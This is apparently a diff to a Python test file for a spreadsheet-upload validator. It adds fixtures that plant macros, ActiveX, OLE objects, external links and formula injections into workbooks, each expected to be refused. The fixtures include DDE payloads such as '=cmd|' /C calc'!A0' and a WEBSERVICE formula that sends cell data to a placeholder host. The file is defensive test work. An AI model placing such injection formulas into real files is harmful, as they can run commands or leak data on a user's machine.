@@ -166,6 +166,86 @@ def _hidden_row(model: FormModel) -> Callable[[openpyxl.Workbook], None]:
     return change
 
 
+# -- active content: macros, controls, objects, links, DDE and references to other workbooks --------
+
+_REL_NS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
+_EXTERNAL = 'TargetMode="External"'
+_MACRO_TYPE = b"application/vnd.ms-excel.sheet.macroEnabled.main+xml"
+
+
+def _add_parts(xlsx: bytes, parts: dict[str, bytes], edit: Callable[[str, bytes], bytes] | None = None) -> bytes:
+    """The package with ``parts`` added (and every part through ``edit``, when given)."""
+    src = zipfile.ZipFile(io.BytesIO(xlsx))
+    out = io.BytesIO()
+    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as dst:
+        for info in src.infolist():
+            data = src.read(info.filename)
+            dst.writestr(info.filename, edit(info.filename, data) if edit else data)
+        for name, data in parts.items():
+            dst.writestr(name, data)
+    return out.getvalue()
+
+
+def _macro_enabled(name: str, data: bytes) -> bytes:
+    """The workbook part typed as an .xlsm's, as Excel saves a workbook with macros."""
+    if name == "[Content_Types].xml":
+        return re.sub(rb"application/vnd\.openxmlformats-officedocument\.spreadsheetml\.sheet\.main\+xml", _MACRO_TYPE,
+                      data)
+    return data
+
+
+def _vba_project(xlsx: bytes) -> bytes:
+    return _add_parts(xlsx, {"xl/vbaProject.bin": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(512)}, _macro_enabled)
+
+
+def _sheet_rels(xlsx: bytes, rels: str) -> bytes:
+    """Relationships of the main sheet (it has none of its own in a template)."""
+    return _add_parts(xlsx, {"xl/worksheets/_rels/sheet2.xml.rels": (
+        f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<Relationships xmlns='
+        f'"http://schemas.openxmlformats.org/package/2006/relationships">{rels}</Relationships>').encode()})
+
+
+def _external_link(xlsx: bytes) -> bytes:
+    """A link to another workbook, as Excel keeps one: its part, and the workbook's relationship to it."""
+    link = (b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<externalLink xmlns='
+            b'"http://schemas.openxmlformats.org/spreadsheetml/2006/main"><externalBook r:id="rId1" xmlns:r="'
+            + _REL_NS.encode() + b'"/></externalLink>')
+
+    def edit(name: str, data: bytes) -> bytes:
+        if name == "xl/_rels/workbook.xml.rels":
+            return data.replace(b"</Relationships>", b'<Relationship Id="rId99" Type="' + _REL_NS.encode()
+                                + b'/externalLink" Target="externalLinks/externalLink1.xml"/></Relationships>')
+        return data
+    return _add_parts(xlsx, {"xl/externalLinks/externalLink1.xml": link}, edit)
+
+
+def _formula_at(cell: str, formula: str) -> Callable[[openpyxl.Workbook], None]:
+    """A formula typed into a cell of the main sheet outside the form (no input, no label)."""
+    def change(wb: openpyxl.Workbook) -> None:
+        wb.worksheets[1][cell] = formula
+    return change
+
+
+def _defined_name(text: str, sheet_level: bool = False) -> Callable[[str, bytes], bytes]:
+    """A defined name with ``text`` (an external reference, a DDE link) in the workbook part."""
+    def edit(name: str, data: bytes) -> bytes:
+        if name == "xl/workbook.xml":
+            local = b' localSheetId="1"' if sheet_level else b""
+            return data.replace(b"</definedNames>", b'<definedName name="\xe4\xb8\x8a\xe5\xb9\xb4"' + local + b">"
+                                + text.replace("&", "&amp;").encode() + b"</definedName></definedNames>", 1)
+        return data
+    return edit
+
+
+def _ods_with_macros() -> bytes:
+    out = io.BytesIO()
+    with zipfile.ZipFile(out, "w") as z:
+        z.writestr("mimetype", "application/vnd.oasis.opendocument.spreadsheet")
+        z.writestr("content.xml", "<office:document-content/>")
+        z.writestr("Basic/Standard/Module1.xml", "<script:module/>")
+    return out.getvalue()
+
+
 CASES: dict[str, tuple[Builder, tuple]] = {
     # not a spreadsheet
     "pdf": (lambda m, x, d: b"%PDF-1.7\n1 0 obj <<>> endobj\n%%EOF", ("unreadable", "pdf", "PDF")),
@@ -214,4 +294,36 @@ CASES: dict[str, tuple[Builder, tuple]] = {
     "control_characters": (lambda m, x, d: _control_chars(x), ("invalid", "control", "控制字符")),
     "formula_like_text": (lambda m, x, d: with_openpyxl(x, _set(m, {"/unit/contact": "'=cmd|' /C calc'!A0"})),
                           ("valid", None)),
+    # active content, refused whatever else is in the file (the message says what and where)
+    "vba_project": (lambda m, x, d: _vba_project(x), ("unreadable", "active_content", "不含宏和外部链接")),
+    "macro_enabled_type": (lambda m, x, d: _add_parts(x, {}, _macro_enabled), ("unreadable", "active_content", "宏")),
+    "xlm_macro_sheet": (lambda m, x, d: _add_parts(x, {"xl/macrosheets/sheet1.xml": b"<xm:macrosheet/>"}),
+                        ("unreadable", "active_content", "宏表")),
+    "activex_control": (lambda m, x, d: _add_parts(x, {"xl/activeX/activeX1.xml": b"<ax:ocx/>",
+                                                     "xl/activeX/activeX1.bin": b"\0" * 64}),
+                        ("unreadable", "active_content", "ActiveX")),
+    "embedded_ole_object": (lambda m, x, d: _add_parts(x, {"xl/embeddings/oleObject1.bin": b"\0" * 64}),
+                            ("unreadable", "active_content", "嵌入的对象")),
+    "external_link_part": (lambda m, x, d: _external_link(x),
+                           ("unreadable", "active_content", "xl/externalLinks/externalLink1.xml")),
+    "external_relationship": (lambda m, x, d: _sheet_rels(x, f'<Relationship Id="rId1" Type="{_REL_NS}/image" '
+                                                           f'Target="http://example.com/seal.png" {_EXTERNAL}/>'),
+                              ("unreadable", "active_content", "http://example.com/seal.png")),
+    "external_hyperlink_is_fine": (lambda m, x, d: _sheet_rels(x, f'<Relationship Id="rId1" Type="{_REL_NS}/hyperlink" '
+                                                                f'Target="mailto:clerk@example.com" {_EXTERNAL}/>'),
+                                   ("valid", None)),
+    "dde_formula_outside_the_form": (lambda m, x, d: with_openpyxl(x, _formula_at("J60", "=cmd|' /C calc'!A0")),
+                                     ("unreadable", "active_content", "绩效目标申报表!J60")),
+    "external_reference_formula": (lambda m, x, d: with_openpyxl(
+        x, _formula_at("J61", "='C:\\预算\\[上年.xlsx]汇总'!A1")), ("unreadable", "active_content", "其他工作簿")),
+    "webservice_formula": (lambda m, x, d: with_openpyxl(x, _formula_at("J62", '=WEBSERVICE("http://x.example/?q="&A1)')),
+                           ("unreadable", "active_content", "WEBSERVICE")),
+    "external_reference_name": (lambda m, x, d: rezip(x, _defined_name("'[上年.xlsx]汇总'!$A$1")),
+                                ("unreadable", "active_content", "上年")),
+    "dde_in_a_sheet_level_name": (lambda m, x, d: rezip(x, _defined_name("cmd|' /C calc'!A0", sheet_level=True)),
+                                  ("unreadable", "active_content", "DDE")),
+    "ods_with_macros": (lambda m, x, d: _ods_with_macros(), ("unreadable", "active_content", "宏")),
+    "harmless_formulas_outside_the_form": (lambda m, x, d: with_openpyxl(x, lambda wb: (
+        _formula_at("J63", '="a|b"&"[c]"')(wb), _formula_at("J64", "=SUM(J63:J63)")(wb),
+        _formula_at("J65", "='封面'!A1")(wb))), ("valid", None)),
 }
